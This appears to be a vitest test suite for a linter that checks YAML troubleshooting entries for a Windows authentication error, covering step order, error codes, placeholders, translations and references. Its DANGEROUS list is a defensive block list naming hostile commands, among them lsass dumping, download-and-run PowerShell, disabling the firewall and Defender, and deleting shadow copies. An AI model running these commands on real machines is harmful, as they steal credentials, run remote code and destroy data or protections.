import { describe, expect, test } from "vitest";
import { ENTRY, lineOf, load, OVERLAY, problems, swap } from "./fixture.ts";

const FILE = "entries/0x80090311.yaml";
const SPANISH = "locales/es/0x80090311.yaml";

test("the fixture passes every lint", () => {
  expect(problems()).toEqual([]);
});

/** Name, what is replaced, by what, the line's text that the message must point at, words of the message. */
type Row = [name: string, from: string, to: string, at: string, says: RegExp];

const GRAPH: Row[] = [
  [
    "a cause that begins with a change",
    "steps: [find-dc, connect-vpn]",
    "steps: [connect-vpn, find-dc]",
    "[connect-vpn, find-dc]",
    /first step of a cause only looks/,
  ],
  [
    "an unknown step in a cause",
    "[find-dc, connect-vpn]",
    "[find-dc, go-home, connect-vpn]",
    "go-home",
    /no step go-home/,
  ],
  [
    "an unknown cause in a context",
    "causes: [no-path]",
    "causes: [no-pat]",
    "[no-pat]",
    /no cause no-pat/,
  ],
  [
    "an unknown step in next",
    "next: connect-vpn",
    "next: conect",
    "next: conect",
    /verify, escalate or next-cause/,
  ],
  [
    "an unknown step in otherwise",
    "    undo:",
    "    otherwise: nowhere\n    undo:",
    "otherwise",
    /no step nowhere/,
  ],
  [
    "a dead reference",
    "    steps: [find-dc, connect-vpn]\n    sources: [doc]",
    "    steps: [find-dc, connect-vpn]\n    sources: [dok]",
    "[dok]",
    /no reference dok/,
  ],
  [
    "an id twice",
    '      - id: none\n        title: "It fails',
    '      - id: found # twice\n        title: "It fails',
    "# twice",
    /found stands twice/,
  ],
  [
    "a step that nothing leads to",
    "steps: [find-dc, connect-vpn]",
    "steps: [connect-vpn]",
    "find-dc:",
    /nothing leads to the step find-dc/,
  ],
  [
    "a circle by results",
    "    undo:",
    "    results:\n      - id: again\n        title: Again\n        next: find-dc\n      - id: good\n        title: Good\n        next: verify\n    undo:",
    "steps: [find-dc",
    /circle: find-dc -> connect-vpn -> find-dc/,
  ],
  [
    "a circle by otherwise",
    "    undo:",
    "    otherwise: find-dc\n    undo:",
    "steps: [find-dc",
    /circle/,
  ],
  [
    "a read-only step without results",
    ENTRY.slice(ENTRY.indexOf("    results:"), ENTRY.indexOf("    sources: [doc]\n  connect")),
    "",
    "find-dc:",
    /results.*missing/,
  ],
  [
    "a disruptive step first",
    ENTRY.slice(ENTRY.indexOf("    risk: read-only"), ENTRY.indexOf("    run:")),
    '    risk: disruptive\n    warn: "It interrupts."\n    no_undo: "It cannot be taken back."\n',
    "steps: [find-dc",
    /may not be the first/,
  ],
  [
    "a falling risk",
    "[find-dc, connect-vpn]",
    "[connect-vpn, find-dc]",
    "steps: [connect-vpn",
    /risk falls from reversible to read-only/,
  ],
  [
    "a remedy that resolves unverified",
    "    undo:",
    "    results: # own\n      - id: good\n        title: Good\n        next: escalate\n    undo:",
    "# own",
    /must be verified/,
  ],
  [
    "a cause without an end",
    'next: escalate\n      - id: none\n        title: "It fails with 1355"\n        seen: ["1355"]\n        next: connect-vpn',
    'next: next-cause\n      - id: none\n        title: "It fails with 1355"\n        seen: ["1355"]\n        next: next-cause',
    "steps: [find-dc",
    /no path of this cause ends/,
  ],
  [
    "a reversible step without undo",
    '    undo: "Choose **Disconnect**."\n',
    "",
    "connect-vpn:",
    /undo.*missing/,
  ],
  [
    "no undo without a reason",
    'undo: "Choose **Disconnect**."',
    "undo: not-needed",
    "not-needed",
    /say why/,
  ],
  [
    "a disruptive step without warning",
    "    risk: reversible\n",
    "    risk: disruptive\n",
    "connect-vpn:",
    /warn.*missing/,
  ],
  [
    "a retired entry without successor",
    "status: reviewed",
    "status: retired",
    "status:",
    /replaced_by/,
  ],
];

describe("how steps hang together", () => {
  test.each(GRAPH)("%s", (_name, from, to, at, says) => {
    const text = swap(ENTRY, from, to);
    expectFault(text, at, says);
  });

  test("a cause whose only steps look and lead nowhere is told even when each result is valid", () => {
    const start = ENTRY.indexOf("  connect-vpn:");
    const end = ENTRY.indexOf("verify:\n");
    const short = ENTRY.slice(0, start) + ENTRY.slice(end);
    const text = swap(
      swap(
        swap(short, "[find-dc, connect-vpn]", "[find-dc]"),
        "next: escalate",
        "next: next-cause",
      ),
      "next: connect-vpn",
      "next: next-cause",
    );
    expectFault(text, "steps: [find-dc]", /no path of this cause ends in verify or escalate/);
  });
});

const CODES: Row[] = [
  [
    "the wrong name of the article",
    "symbol: SEC_E_NO_AUTHENTICATING_AUTHORITY",
    "symbol: SEC_E_INVALID_HANDLE",
    "symbol:",
    /SEC_E_INVALID_HANDLE is 0x80090301; 0x80090311 is SEC_E_NO_AUTHENTICATING_AUTHORITY/,
  ],
  [
    "an invented name",
    "symbol: SEC_E_NO_AUTHENTICATING_AUTHORITY",
    "symbol: SEC_E_NO_DC",
    "symbol:",
    /no public header has SEC_E_NO_DC/,
  ],
  ["a wrong family", "family: hresult", "family: win32", "family:", /under hresult/],
  [
    "no name for a named code",
    "symbol: SEC_E_NO_AUTHENTICATING_AUTHORITY",
    "symbol: none",
    "symbol:",
    /has a name/,
  ],
  [
    "a nameless code without source",
    "codes:",
    'codes:\n  - value: "0x80099999"\n    family: other\n    symbol: none',
    "0x80099999",
    /label.*source/,
  ],
  [
    "the id's code missing",
    '  - value: "0x80090311"\n    family: hresult\n    symbol: SEC_E_NO_AUTHENTICATING_AUTHORITY',
    '  - value: "0x80090301"\n    family: hresult\n    symbol: SEC_E_INVALID_HANDLE',
    "codes:",
    /0x80090311.*missing/,
  ],
  [
    "a related code that nobody knows",
    'code: "0x80070005"',
    'code: "0x80070FFF"',
    "0x80070FFF",
    /knows no 0x80070FFF/,
  ],
];

describe("codes and names", () => {
  test.each(CODES)("%s", (_name, from, to, at, says) => {
    expectFault(swap(ENTRY, from, to), at, says);
  });

  test("a component's nameless number may be a stop code's number; readings with a name stay apart from it", () => {
    const text = swap(
      ENTRY,
      "codes:",
      'codes:\n  - value: "0x0000007B"\n    family: other\n    symbol: none\n    label: "Shown by the printer dialog"\n    source: doc',
    );
    const overlay = swap(
      OVERLAY,
      "summary:",
      'codes:\n  "0x0000007B":\n    label: "Lo muestra el cuadro de la impresora"\nsummary:',
    );
    const knowledge = load({ [FILE]: text, [SPANISH]: overlay });
    const nameless = { code: "0x0000007B", value: 0x7b, family: "other", identity: "" } as const;
    const why = { id: "table", params: {} };
    const read = (symbol: string | null, component: string) =>
      knowledge.entryFor({ ...nameless, aliases: [], symbol, component, why, score: 1 });
    expect(read(null, "print")).toBe("0x80090311");
    expect(read("LDAP_SOMETHING", "ldap")).toBeUndefined();
  });

  test("the derived forms of a Win32 code are one code with it", () => {
    const text = swap(
      ENTRY,
      "codes:",
      'codes:\n  - value: "0xC0070005"\n    family: hresult\n    symbol: ERROR_ACCESS_DENIED\n  - value: "0x00000005"\n    family: win32\n    symbol: ERROR_ACCESS_DENIED',
    );
    const knowledge = load({ [FILE]: text });
    const reading = {
      code: "0x80070005",
      value: 0x80070005,
      symbol: "E_ACCESSDENIED",
      family: "hresult",
      component: "",
      identity: "",
      aliases: [],
      why: { id: "", params: {} },
      score: 1,
    } as const;
    expect(knowledge.entryFor({ ...reading, aliases: [] })).toBe("0x80090311");
  });

  test("one code belongs to one entry", () => {
    const other = swap(
      swap(ENTRY, 'id: "0x80090311"', "id: other-problem"),
      'title: "No',
      'title: "Another',
    );
    expect(problems({ "entries/other-problem.yaml": other })).toEqual([
      expect.stringMatching(/entries\/other-problem\.yaml:7: .*0x80090311 covers this code too/),
    ]);
  });
});

const DANGEROUS = [
  "taskkill /f /im lsass.exe",
  "Stop-Process -Name lsass -Force",
  "rundll32 comsvcs.dll, MiniDump 624 lsass.dmp full",
  "procdump -ma lsass.exe out.dmp",
  "Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '*' -Force",
  'winrm set winrm/config/client @{TrustedHosts="*"}',
  "netsh int ip reset",
  "netsh advfirewall set allprofiles state off",
  "Set-NetFirewallProfile -Profile Domain,Public -Enabled False",
  "Set-MpPreference -DisableRealtimeMonitoring $true",
  "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender /v DisableAntiSpyware /t REG_DWORD /d 1",
  "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /d 0",
  "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders /v EnabledSecurityProviders /d 1",
  "Set-ItemProperty 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp' -Name UserAuthentication -Value 0",
  "iex (New-Object Net.WebClient).DownloadString('https://example.com/fix.ps1')",
  "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
  "Set-ExecutionPolicy Unrestricted",
  "format c: /q",
  "Remove-Item -Recurse C:\\Windows",
  "vssadmin delete shadows /all",
  "net localgroup Administrators /add anna",
  "reg add HKLM\\SOFTWARE\\Vendor /v Mode /d 2",
  "Set-ItemProperty -Path HKLM:\\SOFTWARE\\Vendor -Name Mode -Value 2",
  "bcdedit /set testsigning on",
];

const CHANGING = [
  "Restart-Service Netlogon",
  "Test-ComputerSecureChannel -Repair",
  "netsh winsock reset",
  "nltest /sc_reset:YOUR-DOMAIN",
  "ipconfig /flushdns",
  "klist purge",
  "sc config netlogon start= auto",
  "w32tm /resync",
  "gpupdate /force",
  "shutdown /r /t 0",
  "Get-Service x | Set-Service -StartupType Automatic",
  "del C:\\Temp\\x.txt",
  "echo 1 > C:\\Temp\\x.txt",
  "setspn -S HTTP/web YOUR-DOMAIN",
  "dism /online /cleanup-image /restorehealth",
];

const LOOKING = [
  "nltest /dsgetdc:YOUR-DOMAIN /force /kdc",
  "nltest /sc_query:YOUR-DOMAIN",
  "Get-WinEvent -FilterHashtable @{LogName='System';Id=5719} | Format-List",
  "net user %USERNAME% /domain",
  "Get-CimInstance Win32_ComputerSystem | Select-Object Name,Domain,PartOfDomain",
  "Test-NetConnection YOUR-DOMAIN -Port 88",
  "Resolve-DnsName -Type SRV _ldap._tcp.dc._msdcs.YOUR-DOMAIN",
  "w32tm /stripchart /computer:YOUR-DOMAIN /samples:3 /dataonly",
  "sc.exe query netlogon",
  "setspn -Q HTTP/web",
  "reg query HKLM\\SOFTWARE\\Vendor /v Mode",
  "klist get host/web",
  "Get-Item WSMan:\\localhost\\Client\\TrustedHosts",
  "dsregcmd /status 2>&1",
  "(New-Object -ComObject Microsoft.Update.ServiceManager).Services | Format-Table Name",
  "whoami /groups > $null",
  "$x = 1; if ($x -gt 0) { 'x' }",
];

describe("commands", () => {
  const remedy = (command: string) =>
    swap(
      ENTRY,
      "    undo:",
      `    run:\n      - shell: cmd\n        command: |-\n          ${command}\n        expect: "It works."\n    undo:`,
    );
  const look = (command: string) => swap(ENTRY, "nltest /dsgetdc:YOUR-DOMAIN", command);

  test.each(DANGEROUS)("refused in every step: %s", (command) => {
    const text = remedy(command);
    expectFault(
      text,
      "command: |-\n".trim(),
      /never|registry edit|another name|TrustedHosts \* trusts|no cure/,
      lineOf(text, command) - 1,
    );
  });

  test.each(CHANGING)("refused in a read-only step: %s", (command) => {
    const text = look(command);
    expectFault(text, "command:", /changes something and the step says read-only/);
  });

  test.each(CHANGING)("allowed in a step that says so: %s", (command) => {
    expect(problems({ [FILE]: remedy(command) }).join()).not.toMatch(/read-only/);
  });

  test.each(LOOKING)("allowed in a read-only step: %s", (command) => {
    expect(problems({ [FILE]: look(command) })).toEqual([]);
  });

  test("a registry edit after a look at the old value is allowed", () => {
    const text = remedy(
      "reg query HKLM\\SOFTWARE\\Vendor /v Mode && reg add HKLM\\SOFTWARE\\Vendor /v Mode /d 2",
    );
    expect(problems({ [FILE]: text }).filter((one) => one.includes("registry"))).toEqual([]);
  });

  test.each([
    ["nltest /dsgetdc:OTHER-DOMAIN", /placeholder OTHER-DOMAIN is not declared/],
    ["nltest /dsgetdc:<domain>", /placeholder in brackets/],
    ["nltest /dsgetdc:{{domain}}", /placeholder in brackets/],
  ])("a placeholder: %s", (command, says) => {
    expectFault(look(command), "command:", says);
  });

  test("a SID, UTF-8 and a protocol's name are no placeholders", () => {
    expect(problems({ [FILE]: look("whoami S-1-5-32-544 UTF-8 WS-MAN") })).toEqual([]);
  });
});

describe("advice in words", () => {
  test.each([
    ["Turn off the firewall for a moment.", /turn off firewall/],
    ["Disable Windows Defender.", /disable defender/],
    ["End the lsass process in Task Manager.", /end lsass/],
  ])("refused: %s", (advice, says) => {
    expectFault(swap(ENTRY, "Open the VPN and choose **Connect**.", advice), advice, says);
  });

  test("a warning not to do it is no advice", () => {
    const text = swap(
      ENTRY,
      "Open the VPN and choose **Connect**.",
      "Open the VPN. Do not turn off the firewall.",
    );
    expect(problems({ [FILE]: text })).toEqual([]);
  });

  test("a translation may not say it either", () => {
    const text = swap(
      OVERLAY,
      "Abra la VPN y elija **Conectar**.",
      "Desactive el firewall un momento.",
    );
    expect(problems({ [SPANISH]: text })).toEqual([
      expect.stringMatching(`${SPANISH}:${lineOf(text, "firewall")}: no step may say this`),
    ]);
  });

  test("a click that changes something is no look", () => {
    const text = swap(
      ENTRY,
      "    run:\n      - shell: cmd",
      '    do:\n      - "Restart the computer."\n    run:\n      - shell: cmd',
    );
    expectFault(text, "Restart the computer", /"Restart" changes something/);
  });
});

describe("languages", () => {
  test("English left in a translation", () => {
    const text = swap(
      OVERLAY,
      "El equipo está fuera de la red de la empresa.",
      "The computer is away from the network of the company.",
    );
    expect(problems({ [SPANISH]: text })).toEqual([
      expect.stringMatching(
        `${SPANISH}:${lineOf(text, "The computer")}: this text is in English and should be in Spanish`,
      ),
    ]);
  });

  test("Spanish in the English entry", () => {
    expectFault(
      swap(
        ENTRY,
        "The computer is away from the network of the company.",
        "El equipo está fuera de la red de la empresa, no en casa.",
      ),
      "El equipo",
      /in Spanish and should be in English/,
    );
  });

  test("a quotation of the other language is fine", () => {
    const text = swap(
      OVERLAY,
      "El equipo está fuera de la red de la empresa.",
      "El equipo dice «this is not on the network of the company» y está fuera.",
    );
    expect(problems({ [SPANISH]: text })).toEqual([]);
  });
});

describe("sources", () => {
  test("own experience is for companies", () => {
    expectFault(
      swap(
        ENTRY,
        "references:",
        "references:\n  - id: own-experience\n    by: Ana\n    date: 2026-11-21",
      ),
      "own-experience",
      /company's own/,
    );
  });

  test("a reference without title", () => {
    expectFault(swap(ENTRY, '    title: "A page"\n', ""), "id: doc", /needs a title/);
  });
});

function expectFault(text: string, at: string, says: RegExp, line = lineOf(text, at)): void {
  const found = problems({ [FILE]: text });
  const told = found.filter((one) => says.test(one));
  expect(told, found.join("\n")).not.toEqual([]);
  expect(told[0]).toMatch(`${FILE}:${line}:`);
}
